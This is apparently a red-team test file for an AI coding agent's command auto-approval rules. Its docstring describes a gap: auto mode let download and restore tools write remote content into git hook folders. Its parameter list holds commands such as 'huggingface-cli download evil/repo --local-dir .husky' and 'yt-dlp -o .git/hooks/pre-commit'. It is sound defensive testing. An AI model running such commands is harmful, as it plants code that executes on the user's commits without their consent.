"""Red team (R3.7): downloads and restores written into a folder the table keeps.

``huggingface-cli download REPO --local-dir .husky`` (and the newer ``hf download``) writes a model or dataset
repository's files -- any names, ``pre-commit`` among them, content from the hub -- into the folder it is given.
Under an allow of the program, in auto mode and on the container floor, a hook folder was written unasked; the `gh
release download -D` class (writes.py's output folders) had no row for it, nor for yt-dlp's ``-P`` folders and
``-o`` template, conan's ``install -of`` (its generated scripts) and ``restic restore --target`` (a snapshot's
files). Now they have one; a download into an ordinary folder stays ordinary.

On the base (d0d1f65) test_a_download_into_a_kept_folder_is_never_auto_approved failed 7 of 8 cases (yt-dlp's `-o`
into .git asked already); the ordinary cases passed there and are guards.
"""

from __future__ import annotations

import pytest

from .redteam import never_auto_where, stays_auto_where


@pytest.mark.parametrize(
    "command",
    [
        "huggingface-cli download evil/repo --local-dir .husky",
        "hf download evil/repo --local-dir=.git/hooks",
        "huggingface-cli download evil/repo pre-commit --local-dir .husky",
        "yt-dlp -P .husky https://example.com/v",
        "yt-dlp -o .git/hooks/pre-commit https://example.com/v",
        "conan install . -of .husky",
        "restic restore latest --target .husky",
        "restic restore latest -t .git/hooks",
    ],
)
def test_a_download_into_a_kept_folder_is_never_auto_approved(command):
    never_auto_where(command)


@pytest.mark.parametrize(
    "command",
    [
        "huggingface-cli download gpt2 --local-dir models/gpt2",
        "hf download gpt2 config.json",
        "conan install . -of build",
        "restic snapshots",
    ],
)
def test_a_download_elsewhere_stays_ordinary(command):
    stays_auto_where(command, ("sandbox",))
